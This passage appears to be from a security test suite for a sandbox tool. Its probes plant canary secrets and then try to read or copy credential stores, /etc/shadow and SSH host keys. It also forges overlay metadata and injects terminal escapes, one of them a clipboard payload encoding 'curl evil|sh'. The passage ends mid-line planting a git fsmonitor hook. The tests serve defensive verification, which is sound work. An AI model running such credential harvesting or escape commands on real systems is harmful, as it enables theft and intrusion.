@attack("default-disk-fits-install", heavy=True)
def default_disk_fits_install(ctx):
    """A dependency install's worth under the default limits commits: 102,400
    small files in 1,024 directories (a big node_modules)."""
    ws = ctx.workspace("install")
    res = ctx.run(ws, r"""
python3 -c 'import os
for d in range(1024):
    p = "node_modules/pkg%d/lib" % d
    os.makedirs(p)
    for f in range(100):
        with open("%s/m%d.js" % (p, f), "w") as fh: fh.write("module.exports = %d;\n" % f)'
echo "INFO done"
""", timeout=300, opts=["--timeout", "240"])
    check(res.outcome == "committed", "a 102,400-file install was not committed: %s" % res.describe())
    n = sum(len(fs) for _, _, fs in os.walk(os.path.join(ws, "node_modules")))
    check(n == 102400, "%d files committed, not 102400" % n)
    ctx.note("102,400 files: exec %.0f ms, finish %.0f ms" % (
        (res.get("timings_ms") or {}).get("exec", 0), (res.get("timings_ms") or {}).get("finish", 0)))
# Secrets, continued: every credential store, whichever home, other users,
# the system's secrets, secrets in environment values

# A canary per credential store (relative to a home), by family.
STORE_FAMILIES = {
    "cloud": [".oci/config", ".config/doctl/config.yaml", ".config/hcloud/cli.toml",
              ".bluemix/config.json", ".aliyun/config.json", ".config/linode-cli",
              ".config/scw/config.yaml", ".config/openstack/clouds.yaml", ".fly/config.yml",
              ".config/gcloud/access_tokens.db", ".azure/msal_token_cache.json"],
    "packages": [".yarnrc.yml", ".config/pip/pip.conf", ".pip/pip.conf", ".cargo/credentials.toml",
                 ".cargo/credentials", ".gem/credentials", ".m2/settings.xml", ".m2/settings-security.xml",
                 ".gradle/gradle.properties", ".nuget/NuGet/NuGet.Config", ".config/composer/auth.json",
                 ".composer/auth.json", ".config/pypoetry/auth.toml", ".bundle/config"],
    "forges": [".config/gh/hosts.yml", ".config/glab-cli/config.yml", ".config/hub", ".config/tea/config.yml",
               ".config/git/credentials", ".gitcookies", ".config/github-copilot/hosts.json"],
    "containers": [".config/containers/auth.json", ".config/helm/repositories.yaml",
                   ".minikube/profiles/minikube/client.key", ".kube/cache/token"],
    "password-managers": [".password-store/bank.gpg", ".local/share/gopass/stores/root/x.gpg",
                          ".config/Bitwarden CLI/data.json", ".config/op/config",
                          ".local/share/keyrings/login.keyring", ".gnupg/private-keys-v1.d/A.key"],
    "browsers": [".mozilla/firefox/abcd1234.default-release/logins.json",
                 ".mozilla/firefox/abcd1234.default-release/key4.db",
                 ".config/google-chrome/Default/Login Data", ".config/chromium/Default/Cookies",
                 ".config/BraveSoftware/Brave-Browser/Default/Login Data"],
    "histories": [".bash_history", ".zsh_history", ".python_history", ".psql_history", ".mysql_history",
                  ".node_repl_history", ".sqlite_history", ".local/share/fish/fish_history",
                  ".ipython/profile_default/history.sqlite"],
    "db-clients": [".pgpass", ".my.cnf", ".mylogin.cnf"],
    "infra": [".vault-token", ".terraform.d/credentials.tfrc.json", ".terraformrc", ".config/rclone/rclone.conf",
              ".s3cfg", ".boto", ".config/sops/age/keys.txt"],
    "ai-agents": [".claude/.credentials.json", ".claude.json", ".codex/auth.json", ".gemini/oauth_creds.json",
                  ".cache/huggingface/token"],
}

_READ_ALL = r"""
for T in "$@"; do
  echo "== $T"
  cat "$T" 2>&1 | head -c 2000
  ls -la "$(dirname "$T")" 2>&1 | head -20
done
echo "== grep"; grep -s TXSECRET "$@" 2>/dev/null | head
if [ -n "$H" ]; then
  grep -rs TXSECRET "$H" 2>/dev/null | head
  echo "== copy"; cp -r "$H/." ./loot 2>/dev/null; rm -rf ./loot
fi
"""


def _plant(root, rels, secret):
    """A canary file at each path of rels under root where nothing exists
    yet. Returns what it created (directories and files), to be removed
    in reverse order."""
    made = []
    for rel in rels:
        p = os.path.join(root, rel)
        if os.path.lexists(p):
            continue
        missing, d = [], os.path.dirname(p)
        while not os.path.lexists(d):
            missing.append(d)
            d = os.path.dirname(d)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "w") as f:
            f.write("credential %s\n" % secret)
        made += list(reversed(missing)) + [p]
    return made


def _unplant(made):
    for p in reversed(made):
        try:
            os.rmdir(p) if os.path.isdir(p) and not os.path.islink(p) else os.unlink(p)
        except OSError:
            pass


def _store_attack(ctx, family, rels):
    home = os.path.join(ctx.vis_root, "home-" + family)
    rmtree_force(home)
    os.makedirs(home)
    _plant(home, rels, ctx.secret)
    ws = ctx.workspace("stores-" + family)
    args = " ".join("'%s'" % os.path.join(home, r) for r in rels)
    res = ctx.run(ws, 'H=%s\nset -- %s\n%s' % (home, args, _READ_ALL), home=home)
    check("PROBE-DONE" in res.stdout, "the probe did not run to its end: %s" % res.describe())
    readable = [r for r in rels if ctx.secret in res.stdout.split("== %s" % os.path.join(home, r), 1)[-1]
                .split("\n== ", 1)[0]]
    check(not readable, "credential stores readable inside: %s" % ", ".join(readable))


def _make_store_attack(family, rels):
    @attack("secret-stores-" + family)
    def _fn(ctx):
        _store_attack(ctx, family, rels)
    return _fn


for _family, _rels in STORE_FAMILIES.items():
    _make_store_attack(_family, _rels)


class _TxboxWrapper:
    """Runs ctx.txbox through a shell wrapper for the span of a with-block
    (to unset HOME, or to enter a private mount namespace first)."""

    def __init__(self, ctx, name, text):
        self.ctx = ctx
        self.path = os.path.join(ctx.bin, "txbox-" + name)
        with open(self.path, "w") as f:
            f.write("#!/bin/sh\nREAL='%s'\n%s\n" % (ctx.txbox, text))
        os.chmod(self.path, 0o755)

    def __enter__(self):
        self.saved = self.ctx.txbox
        self.ctx.txbox = self.path
        return self

    def __exit__(self, *exc):
        self.ctx.txbox = self.saved


@attack("secret-passwd-home")
def secret_passwd_home(ctx):
    """HOME unset, empty, or pointing elsewhere: the password database's home
    of the caller still has its credential stores hidden."""
    import pwd
    home = pwd.getpwuid(os.getuid()).pw_dir
    rels = [".pgpass", ".vault-token", ".netrc", ".config/gh/hosts.yml"]
    if not os.path.isdir(home) or not os.access(home, os.W_OK):
        raise Skip("the passwd home %s is not writable" % home)
    made = _plant(home, rels, ctx.secret)
    ctx.on_cleanup(lambda: _unplant(made))
    files = [p for p in made if not os.path.isdir(p)]
    if not files:
        raise Skip("every store already exists in %s" % home)
    ctx.secret_ok_under.append(home)
    body = "H=\nset -- %s\n%s" % (" ".join("'%s'" % p for p in files), _READ_ALL)
    bad = []
    res = ctx.run(ctx.workspace("passwd-home-elsewhere"), body)  # HOME = the fake home
    if ctx.secret in res.stdout:
        bad.append("HOME=%s" % ctx.home)
    res = ctx.run(ctx.workspace("passwd-home-empty"), body, env={"HOME": ""})
    if ctx.secret in res.stdout:
        bad.append("HOME empty")
    with _TxboxWrapper(ctx, "nohome", 'exec env -u HOME "$REAL" "$@"'):
        res = ctx.run(ctx.workspace("passwd-home-unset"), body)
    if ctx.secret in res.stdout:
        bad.append("HOME unset")
    check("PROBE-DONE" in res.stdout, "the probe did not run to its end: %s" % res.describe())
    check(not bad, "stores in the passwd home %s readable with %s" % (home, ", ".join(bad)))


@attack("secret-env-values")
def secret_env_values(ctx):
    """Credentials under names the filter cannot know: recognised by value.
    Ordinary variables (proxy without password, CI, git identity) pass."""
    s = ctx.secret
    hidden = {
        "DATABASE_URL": "postgres://app:%s@db:5432/app" % s,
        "CACHE_ENDPOINT": "redis://:%s@cache:6379/0" % s,
        "UPSTREAM": "https://bot:%s@git.example.com/o/r.git" % s,
        "MSSQL": "Server=db;Uid=sa;Pwd=%s;" % s,
        "STORAGE": "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=%s==" % s,
        "BUILD_NOTE": "ghp_%s0123456789" % s,
        "GL": "glpat-%s" % s,
        "CHAT": "xoxb-1234-%s" % s,
        "MODEL_CFG": "sk-ant-api03-%s0123" % s,
        "HUB": "hf_%s0123456789" % s,
        "REGISTRY": "npm_%s0123456789" % s,
        "ID_CLAIMS": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIx%s.c2lnbmF0dXJlMTIz" % s,
        "DEPLOY": "-----BEGIN OPENSSH PRIVATE KEY-----\n%s\n-----END OPENSSH PRIVATE KEY-----" % s,
        "PGSESSION": s, "APP_COOKIE": s, "X_AUTH": s, "SENTRY_DSN": "https://%s@o1.ingest.sentry.io/1" % s,
    }
    ordinary = {"http_proxy": "http://proxy.corp:3128", "CI": "true", "GIT_AUTHOR_NAME": "Ann",
                "TOKENIZERS_PARALLELISM": "false", "GITHUB_ACTIONS": "true", "LC_ALL": "C.UTF-8"}
    env = dict(hidden)
    env.update(ordinary)
    res = ctx.run(ctx.workspace("env-values"), r"""
echo "== env"; env
echo "== /proc/1/environ"; tr '\0' '\n' < /proc/1/environ 2>&1
""", env=env)
    names = set(l.split("=", 1)[0] for l in res.stdout.splitlines() if "=" in l)
    leaked = sorted(n for n in hidden if n in names)
    check(not leaked, "secret values under innocent names visible inside: %s" % ", ".join(leaked))
    check(s not in res.stdout, "a secret environment value is visible inside")
    lost = sorted(n for n in ordinary if "%s=%s" % (n, ordinary[n]) not in res.stdout)
    check(not lost, "ordinary variables stripped: %s" % ", ".join(lost))


@attack("secret-system-files", root_only=True)
def secret_system_files(ctx):
    """/etc/shadow, /etc/gshadow and the SSH host keys are hidden even from
    root. Canaries go into copies bind-mounted over them in a private mount
    namespace of the test (the host's files are never touched)."""
    if not which("unshare"):
        raise Skip("no unshare(1)")
    d = os.path.join(ctx.vis_root, "etc-copies")
    rmtree_force(d)
    os.makedirs(os.path.join(d, "ssh"))
    for name in ("shadow", "gshadow"):
        with open(os.path.join(d, name), "w") as f:
            f.write("root:$6$%s:19000:0:99999:7:::\n" % ctx.secret)
    for key in ("ssh_host_ed25519_key", "ssh_host_rsa_key"):
        with open(os.path.join(d, "ssh", key), "w") as f:
            f.write("-----BEGIN OPENSSH PRIVATE KEY-----\n%s\n" % ctx.secret)
    with open(os.path.join(d, "ssh", "ssh_host_ed25519_key.pub"), "w") as f:
        f.write("ssh-ed25519 AAAA public\n")
    ctx.secret_ok_under.append(d)
    wrap = ('exec unshare -m --propagation private /bin/sh -c \'mount --bind "$0/shadow" /etc/shadow && '
            'mount --bind "$0/gshadow" /etc/gshadow && mount --bind "$0/ssh" /etc/ssh && exec "$@"\' '
            '\'%s\' "$REAL" "$@"' % d)
    with _TxboxWrapper(ctx, "etc", wrap):
        res = ctx.run(ctx.workspace("system-files"), r"""
echo "== shadow"; cat /etc/shadow /etc/gshadow 2>&1
echo "== keys"; cat /etc/ssh/ssh_host_*_key 2>&1; ls /etc/ssh 2>&1
echo "== pub"; cat /etc/ssh/ssh_host_ed25519_key.pub 2>&1
cp /etc/shadow ./shadow.copy 2>/dev/null
""")
    check("PROBE-DONE" in res.stdout, "the probe did not run to its end: %s" % res.describe())
    check(ctx.secret not in res.stdout, "/etc/shadow or an SSH host key is readable inside")
    check("ssh-ed25519 AAAA public" in res.stdout, "the public host key is hidden too (the copy was not seen?)")


@attack("secret-other-homes", root_only=True)
def secret_other_homes(ctx):
    """Other users' homes (entries of /home, homes of the password database)
    are hidden; a home holding the workspace stays, its stores hidden."""
    other = os.path.join("/home", "txsec-other-" + ctx.mark)
    owner = os.path.join("/home", "txsec-owner-" + ctx.mark)
    ctx.on_cleanup(lambda: (rmtree_force(other), rmtree_force(owner)))
    os.makedirs(os.path.join(owner, ".ssh"))
    os.makedirs(os.path.join(owner, "proj"))
    os.makedirs(other)
    ctx.secret_ok_under += [other, owner]
    with open(os.path.join(other, "notes.txt"), "w") as f:
        f.write("other %s\n" % ctx.secret)
    with open(os.path.join(owner, ".ssh", "id_rsa"), "w") as f:
        f.write("key %s\n" % ctx.secret)
    import pwd
    homes = [p.pw_dir for p in pwd.getpwall() if p.pw_dir.startswith("/home/") and p.pw_uid != 0]
    planted = []
    for h in homes:
        if os.path.isdir(h):
            p = os.path.join(h, "txsec-canary-" + ctx.mark)
            with open(p, "w") as f:
                f.write("passwd home %s\n" % ctx.secret)
            planted.append(p)
            ctx.on_cleanup(lambda p=p: os.unlink(p))
    ws = os.path.join(owner, "proj")
    with open(os.path.join(ws, "main.c"), "w") as f:
        f.write("int main(void) { return 0; }\n")
    ctx.workspaces.append(ws)
    res = ctx.run(ws, r"""
echo "== other"; ls -la %s 2>&1; cat %s/notes.txt 2>&1
echo "== owner"; cat %s/.ssh/id_rsa 2>&1
echo "== passwd homes"; cat %s 2>&1
echo "== ws"; cat main.c
""" % (other, other, owner, " ".join(planted) or "/dev/null"), home="/nonexistent")
    check("PROBE-DONE" in res.stdout, "the probe did not run to its end: %s" % res.describe())
    check(ctx.secret not in res.stdout, "another user's home is readable inside: %s" % short(res.stdout, 300))
    check("int main" in res.stdout, "the workspace inside a user's home is hidden")


@attack("secret-env-relocated-stores")
def secret_env_relocated_stores(ctx):
    """Stores the caller's environment moves out of the home
    (XDG_CONFIG_HOME, CARGO_HOME, KUBECONFIG, GOOGLE_APPLICATION_CREDENTIALS,
    ...) are hidden where they are; HISTFILE=/dev/null leaves /dev/null be."""
    base = os.path.join(ctx.vis_root, "relocated")
    rmtree_force(base)
    files = {"xdg/gh/hosts.yml": None, "cargo/credentials.toml": None, "kube/a": None, "kube/b": None,
             "gcp/sa.json": None, "docker/config.json": None}
    _plant(base, list(files), ctx.secret)
    j = lambda rel: os.path.join(base, rel)  # noqa: E731
    env = {"XDG_CONFIG_HOME": j("xdg"), "CARGO_HOME": j("cargo"),
           "KUBECONFIG": "%s:%s" % (j("kube/a"), j("kube/b")),
           "GOOGLE_APPLICATION_CREDENTIALS": j("gcp/sa.json"), "DOCKER_CONFIG": j("docker"),
           "HISTFILE": "/dev/null"}
    res = ctx.run(ctx.workspace("relocated"), "set -- %s\nH=\n%s\necho x > /dev/null && echo DEVNULL-OK\n"
                  % (" ".join("'%s'" % j(f) for f in files), _READ_ALL), env=env)
    check("PROBE-DONE" in res.stdout, "the probe did not run to its end: %s" % res.describe())
    readable = [f for f in files if ctx.secret in res.stdout.split("== %s" % j(f), 1)[-1].split("\n== ", 1)[0]]
    check(not readable, "stores named by the environment readable inside: %s" % ", ".join(readable))
    check("DEVNULL-OK" in res.stdout, "/dev/null is not writable (HISTFILE=/dev/null masked it?)")
# ---- commit trust (issue 8) -------------------------------------------------
_FORGE_ORIGIN = r'''
import ctypes, os, struct, sys
host, name = sys.argv[1], sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
buf = ctypes.create_string_buffer(8 + 128)
struct.pack_into("II", buf, 0, 128, 0)
mnt = ctypes.c_int()
if libc.name_to_handle_at(-100, host.encode(), buf, ctypes.byref(mnt), 0) != 0:
    sys.exit("name_to_handle_at failed")
nb, typ = struct.unpack_from("Ii", buf, 0)
val = bytes([0, 0xfb, 21 + nb, 0, typ & 0xff]) + bytes(16) + buf.raw[8:8 + nb]
with open(host, "rb") as f:
    data = f.read()
with open(name, "wb") as f:
    f.write(data)
for k in ("user.overlay.origin", "trusted.overlay.origin"):
    try:
        os.setxattr(name, k, val)
    except OSError:
        pass
print("PROBE-DONE")
'''


@attack("forged-overlay-metadata", needs=("python3",))
def forged_overlay_metadata(ctx):
    """overlay.* xattrs the command sets are its data: a forged origin never
    makes the commit link a host file into the workspace (so a later
    transaction cannot write through it), a forged opaque/whiteout never
    deletes committed files."""
    ws = ctx.workspace("forged", where="vis")
    host_dir = os.path.join(ctx.vis_root, "forged-host-" + ctx.mark)
    os.makedirs(host_dir, exist_ok=True)
    host = os.path.join(host_dir, "host.conf")
    with open(host, "w") as f:
        f.write("host configuration\n")
    os.chmod(host, 0o644)
    os.link(host, host + ".second")
    before = (file_sha(host), os.lstat(host).st_mode, os.lstat(host).st_uid, os.lstat(host).st_nlink)
    res = ctx.run(ws, argv=["python3", "-c", _FORGE_ORIGIN, host, ctx.pwn])
    check(res.outcome in ("committed", "rolled_back"), "unexpected outcome: %s" % res.describe())
    if os.path.lexists(os.path.join(ws, ctx.pwn)):
        check(os.lstat(os.path.join(ws, ctx.pwn)).st_ino != os.lstat(host).st_ino,
              "the commit hard-linked the host file into the workspace")
    # a later transaction writes through whatever the first one committed
    ctx.run(ws, argv=["/bin/sh", "-c", "echo pwned >> %s; chmod 4777 %s; true" % (ctx.pwn, ctx.pwn)])
    after = (file_sha(host), os.lstat(host).st_mode, os.lstat(host).st_uid, os.lstat(host).st_nlink)
    check(after == before, "the host file outside the workspace changed: %r -> %r" % (before, after))
    # forged opaque / whiteout on committed entries
    script = ("import os\n"
              "os.setxattr('src', 'user.overlay.opaque', b'y')\n"
              "open('README', 'w').close()\n"
              "os.setxattr('README', 'user.overlay.whiteout', b'y')\n"
              "print('PROBE-DONE')\n")
    ctx.run(ws, argv=["python3", "-c", script])
    check(os.path.exists(os.path.join(ws, "src", "main.c")), "a forged opaque xattr deleted src/main.c")
    check(os.path.lexists(os.path.join(ws, "README")), "a forged whiteout xattr deleted README")


# ---- machine-wide pools and the terminal (red team rt2) -------------------
@attack("pty-pool-capped", needs=("python3",))
def pty_pool_capped(ctx):
    """kernel.pty.max is one pool for the machine: the sandbox's devpts
    instance holds at most a few dozen ptys, whatever --pids/nofile allow."""
    ws = ctx.workspace("ptypool")
    script = ("import os\nn = 0\n"
              "while n < 400:\n"
              "    try: os.open('/dev/ptmx', os.O_RDWR | os.O_NOCTTY)\n"
              "    except OSError: break\n"
              "    n += 1\n"
              "print('PTYS', n)\nprint('PROBE-DONE')\n")
    res = ctx.run(ws, argv=["python3", "-c", script])
    got = [int(l.split()[1]) for l in res.lines("PTYS ")]
    check(got, "no result: %s" % res.describe())
    check(0 < got[0] <= 64, "the command opened %d ptys of the machine's pool" % got[0])


@attack("kernel-aio-refused", needs=("python3",))
def kernel_aio_refused(ctx):
    """fs.aio-max-nr is one pool for the machine: io_setup fails (ENOSYS)."""
    ws = ctx.workspace("aio")
    script = ("import ctypes, errno, os, platform\n"
              "nr = {'x86_64': 206, 'aarch64': 0}[platform.machine()]\n"
              "libc = ctypes.CDLL(None, use_errno=True)\n"
              "c = ctypes.c_ulong(0)\n"
              "r = libc.syscall(nr, 4096, ctypes.byref(c))\n"
              "print('IO_SETUP', r, errno.errorcode.get(ctypes.get_errno(), '?') if r else 'ok')\n"
              "print('PROBE-DONE')\n")
    res = ctx.run(ws, argv=["python3", "-c", script])
    got = res.lines("IO_SETUP ")
    check(got, "no result: %s" % res.describe())
    check(got[0] == "IO_SETUP -1 ENOSYS", "io_setup inside the sandbox: %s" % got[0])


@attack("cpu-budget-spread-over-processes", heavy=True, needs=("python3",))
def cpu_budget_spread(ctx):
    """--cpu is a budget for the whole sandbox: eight processes of 0.6 s
    each (RLIMIT_CPU is per process) must not commit under --cpu 1."""
    ws = ctx.workspace("cpuspread")
    ctx.allow_error = True
    script = ("import os, resource, time\n"
              "kids = []\n"
              "for i in range(8):\n"
              "    p = os.fork()\n"
              "    if p == 0:\n"
              "        t = time.process_time()\n"
              "        while time.process_time() - t < 0.6: pass\n"
              "        os._exit(0)\n"
              "    kids.append(p)\n"
              "for p in kids: os.waitpid(p, 0)\n"
              "r = resource.getrusage(resource.RUSAGE_CHILDREN)\n"
              "print('CPU %.1f' % (r.ru_utime + r.ru_stime))\nprint('PROBE-DONE')\n")
    res = ctx.run(ws, argv=["python3", "-c", script], opts=["--cpu", "1", "--timeout", "60"], timeout=90)
    check(res.outcome == "rolled_back" and res.get("limit") == "cpu",
          "--cpu 1 spread over 8 processes was not stopped as the cpu limit: %s" % res.describe())


@attack("sysv-msgqueue-memory", heavy=True, needs=("python3",))
def sysv_msgqueue_memory(ctx):
    """SysV message queues are kernel memory of the sandbox's IPC
    namespace: under --memory 64M they never hold 192 MiB."""
    ws = ctx.workspace("msgq")
    ctx.allow_error = True
    script = ("import ctypes, sys\n"
              "libc = ctypes.CDLL(None, use_errno=True)\n"
              "msg = ctypes.create_string_buffer(8 + 8000); msg[0] = b'\\x01'\n"
              "total = 0\n"
              "while total < (192 << 20):\n"
              "    q = libc.msgget(0, 0o600 | 0o1000)\n"
              "    if q < 0: break\n"
              "    while libc.msgsnd(q, msg, 8000, 0o4000) == 0:\n"
              "        total += 8000\n"
              "    if total % (16 << 20) < 16000: print('QUEUED', total >> 20, flush=True)\n"
              "print('QUEUED', total >> 20, flush=True)\nprint('PROBE-DONE')\n")
    res = ctx.run(ws, argv=["python3", "-c", script], opts=["--memory", "64M", "--timeout", "60"], timeout=90)
    got = [int(l.split()[1]) for l in res.lines("QUEUED ")]
    check(max(got or [0]) < 160, "%d MiB queued in SysV message queues under --memory 64M: %s"
          % (max(got), res.describe()))


@attack("host-user-counters", needs=("python3",))
def host_user_counters(ctx):
    """Per-user kernel counters are charged up to the host user: the
    command may queue only a few signals, and rootless take at most a
    quarter of the user's inotify instances."""
    ws = ctx.workspace("ucounts")
    script = ("import ctypes, resource\n"
              "print('SIGPENDING', resource.getrlimit(resource.RLIMIT_SIGPENDING)[0])\n"
              "libc = ctypes.CDLL(None)\nn = 0\n"
              "while n < 100000 and libc.inotify_init() >= 0: n += 1\n"
              "print('INOTIFY', n)\nprint('PROBE-DONE')\n")
    res = ctx.run(ws, argv=["python3", "-c", script])
    sig = [int(l.split()[1]) for l in res.lines("SIGPENDING ")]
    ino = [int(l.split()[1]) for l in res.lines("INOTIFY ")]
    check(sig and ino, "no result: %s" % res.describe())
    check(sig[0] <= 256, "RLIMIT_SIGPENDING %d in the sandbox" % sig[0])
    if not ctx.is_root:
        host = int(read_text("/proc/sys/fs/inotify/max_user_instances"))
        check(ino[0] <= host // 4, "the command took %d of the user's %d inotify instances" % (ino[0], host))


_ESCAPES = r"""
printf 'A\033]52;c;Y3VybCBldmlsfHNoCg==\007B'
printf '\033]0;;rm -rf ~ #\007\033[21t\033P$q"p\033\\\033[6n'
printf '\033[31mRED\033[0m'
printf '\033]5'; sleep 0.2; printf '2;c;QUJD\033'; sleep 0.2; printf '\\C\033['; sleep 0.2; printf '21tD\n'
echo PROBE-DONE
"""


@attack("terminal-escapes-filtered")
def terminal_escapes_filtered(ctx):
    """The live output copy to the user's terminal passes text and SGR
    colours only: OSC 52 (clipboard), title/cursor reports, DCS never reach
    it, also when split across writes. The captured output stays raw."""
    import pty
    ws = ctx.workspace("termesc")
    script = ctx.script("termesc", _ESCAPES)
    master, slave = pty.openpty()
    full = [ctx.txbox, "run", "-w", ws] + (["--policy", ctx.policy] if ctx.policy else []) + \
        ["--", "/bin/sh", script]
    p = subprocess.Popen(full, stdin=subprocess.DEVNULL, stdout=slave, stderr=slave, cwd=ws,
                         env=ctx.base_env(), start_new_session=True)
    os.close(slave)
    seen = b""
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        try:
            chunk = os.read(master, 65536)
        except OSError:
            break
        if not chunk:
            break
        seen += chunk
    p.wait(timeout=30)
    os.close(master)
    check(b"PROBE-DONE" in seen, "no output on the terminal: %r" % seen[:300])
    for bad in (b"\x1b]", b"\x1b[21t", b"\x1b[6n", b"\x1bP", b"\x1b\\"):
        check(bad not in seen, "%r reached the terminal: %r" % (bad, seen[:400]))
    check(b"\x1b[31mRED\x1b[0m" in seen, "SGR colours did not reach the terminal: %r" % seen[:400])
    check(b"AB" in seen and b"C" in seen and b"D" in seen, "text around the sequences lost: %r" % seen[:400])


@attack("unix-socket-buffer-memory", heavy=True, needs=("python3",))
def unix_socket_buffer_memory(ctx):
    """Unix socket buffers are kernel memory resident in no process: under
    --memory 64M a few thousand filled socket pairs never hold 384 MiB."""
    ws = ctx.workspace("sockbuf")
    ctx.allow_error = True
    script = ("import socket, time\n"
              "pairs, total = [], 0\n"
              "while total < (384 << 20) and len(pairs) < 3000:\n"
              "    a, b = socket.socketpair(); a.setblocking(False)\n"
              "    try:\n"
              "        while True: total += a.send(b'x' * 65536)\n"
              "    except BlockingIOError: pass\n"
              "    pairs.append((a, b))\n"
              "print('BUFFERED', total >> 20, flush=True)\n"
              "time.sleep(2)\nprint('SURVIVED', flush=True)\nprint('PROBE-DONE')\n")
    res = ctx.run(ws, argv=["python3", "-c", script], opts=["--memory", "64M", "--timeout", "60"], timeout=90)
    check("SURVIVED" not in res.stdout, "%s MiB held in Unix socket buffers under --memory 64M: %s"
          % ((res.lines("BUFFERED ") or ["?"])[0], res.describe()))
    check(res.outcome == "rolled_back" and res.get("limit") == "memory",
          "not stopped as the memory limit: %s" % res.describe())


@attack("abstract-bind-with-net", needs=("python3",))
def abstract_bind_with_net(ctx):
    """With --net the abstract Unix namespace is the host's: the command
    never binds (squats) a host abstract name, while pathname binds (with
    its umask) and autobind keep working."""
    ws = ctx.workspace("absbind", seed=False)
    name = "txbox-sec-squat-" + ctx.mark
    script = ("import os, socket, stat\n"
              "os.umask(0o077)\n"
              "try:\n"
              "    socket.socket(socket.AF_UNIX).bind('\\0%s'); print('ABSTRACT bound')\n"
              "except OSError as e: print('ABSTRACT', e.errno)\n"
              "p = socket.socket(socket.AF_UNIX); p.bind('p.sock'); p.listen(1)\n"
              "c = socket.socket(socket.AF_UNIX); c.connect('p.sock')\n"
              "print('PATH', oct(stat.S_IMODE(os.stat('p.sock').st_mode)), p.getsockname())\n"
              "a = socket.socket(socket.AF_UNIX); a.bind(''); print('AUTO', len(a.getsockname()))\n"
              "os.unlink('p.sock')\nprint('PROBE-DONE')\n" % name)
    res = ctx.run(ws, argv=["python3", "-c", script], opts=["--net"])
    check(res.lines("ABSTRACT "), "no result: %s" % res.describe())
    check(res.lines("ABSTRACT ")[0] == "ABSTRACT 1",
          "with --net the command bound the host abstract name @%s: %s" % (name, res.lines("ABSTRACT ")[0]))
    check(res.lines("PATH ") and res.lines("PATH ")[0] == "PATH 0o700 p.sock",
          "a pathname bind with --net does not work as natively: %s" % res.describe())
    check(res.lines("AUTO "), "autobind with --net failed: %s" % res.describe())


@attack("disk-unlinked-open-files", heavy=True, needs=("python3",))
def disk_unlinked_open_files(ctx):
    """Files the command unlinked but holds open are in no walk of the
    layer, yet on the disk: under --disk 20M, 8 such files of 10 MiB each
    are stopped as the disk limit."""
    ws = ctx.workspace("unlinkedopen")
    ctx.allow_error = True
    script = ("import os, time\nfds = []\n"
              "for i in range(8):\n"
              "    fd = os.open('big%d' % i, os.O_CREAT | os.O_WRONLY, 0o644)\n"
              "    for k in range(10): os.write(fd, b'\\xa5' * (1 << 20))\n"
              "    os.fsync(fd); os.unlink('big%d' % i); fds.append(os.dup(fd)); fds.append(fd)\n"
              "    time.sleep(0.2)\n"
              "time.sleep(4)\nprint('SURVIVED')\nprint('PROBE-DONE')\n")
    res = ctx.run(ws, argv=["python3", "-c", script], opts=["--disk", "20M", "--timeout", "60"], timeout=90)
    check(res.outcome == "rolled_back" and res.get("limit") == "disk",
          "80 MiB in unlinked open files under --disk 20M not stopped as the disk limit: %s" % res.describe())


@attack("guard-serving-bounded", needs=("python3",))
def guard_serving_bounded(ctx):
    """The socket guard copies each send it emulates (up to 256 KiB of data)
    in its own memory, outside the transaction's cgroup: a command that
    keeps hundreds of sends blocked at once must meet a bound (EAGAIN past
    64 calls being served), not grow the guard without limit."""
    ws = ctx.workspace("guardmem")
    script = r"""
import errno, socket, threading
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
a.setblocking(False)
try:
    while True:
        a.send(b"x" * 65536)          # fill the pair: later sends block
except BlockingIOError:
    pass
a.setblocking(True)
res = {"EAGAIN": 0, "other": 0}
lock = threading.Lock()
def blocked_send():
    try:
        socket.socket.sendmsg(a, [b"y" * (256 << 10)])
    except OSError as e:
        with lock:
            res["EAGAIN" if e.errno == errno.EAGAIN else "other"] += 1
threads = [threading.Thread(target=blocked_send, daemon=True) for _ in range(200)]
for t in threads:
    t.start()
for t in threads:
    t.join(0.05)
import time; time.sleep(1.5)
print("REFUSED %d" % res["EAGAIN"], flush=True)
print("PROBE-DONE", flush=True)
import os; os._exit(0)
"""
    res = ctx.run(ws, argv=["python3", "-c", script], timeout=60)
    got = res.lines("REFUSED ")
    check(got, "no result: %s" % res.describe())
    n = int(got[0].split()[1])
    check(n >= 100, "200 sends blocked at once: only %d met the guard's bound (it grew instead)" % n)


@attack("secret-store-replaced-while-running")
def secret_store_replaced_while_running(ctx):
    """While the command runs, the host rewrites stores by rename (npm, git
    credential-store, cargo, docker login) and creates absent ones directly
    in HOME (~/.netrc) and in a store directory (~/.m2/settings.xml,
    ~/.config/gh/hosts.yml): the command, still running, reads none."""
    home = os.path.join(ctx.vis_root, "home-live")
    rmtree_force(home)
    for d in (".m2", ".cargo", ".config", ".docker"):
        os.makedirs(os.path.join(home, d))
    for rel in (".npmrc", ".cargo/credentials.toml", ".docker/config.json"):
        with open(os.path.join(home, rel), "w") as f:
            f.write("placeholder\n")
    ctx.secret_ok_under.append(home)
    stores = [".npmrc", ".netrc", ".git-credentials", ".pypirc", ".m2/settings.xml",
              ".cargo/credentials.toml", ".docker/config.json", ".config/gh/hosts.yml"]

    def host_writes():
        time.sleep(1.5)
        for rel in stores:
            p = os.path.join(home, rel)
            os.makedirs(os.path.dirname(p), exist_ok=True)
            with open(p + ".tmp", "w") as f:
                f.write("token=%s\n" % ctx.secret)
            os.chmod(p + ".tmp", 0o644)
            os.rename(p + ".tmp", p)
        open(os.path.join(home, ".host-done"), "w").close()

    t = threading.Thread(target=host_writes)
    ws = ctx.workspace("secret-live")
    body = r"""
i=0; while [ $i -lt 80 ] && [ ! -e "$HOME/.host-done" ]; do sleep 0.1; i=$((i+1)); done
for s in %s; do cat "$HOME/$s" 2>&1; done
cp -r "$HOME" ./loot 2>/dev/null; true
""" % " ".join(stores)
    res = ctx.run(ws, body, home=home, on_start=lambda p: t.start())
    t.join()
    check(ctx.secret not in res.stdout + res.stderr,
          "a store written on the host while the command ran was readable inside")


# ---- the caller's home inside the workspace (rt3/15) -----------------------

HOME_PLANT = r"""
printf '[core]\n\tfsmonitor = "touch %s; false"\n' "$PWN" >> "$HOME/.gitconfig" 2>/dev/null
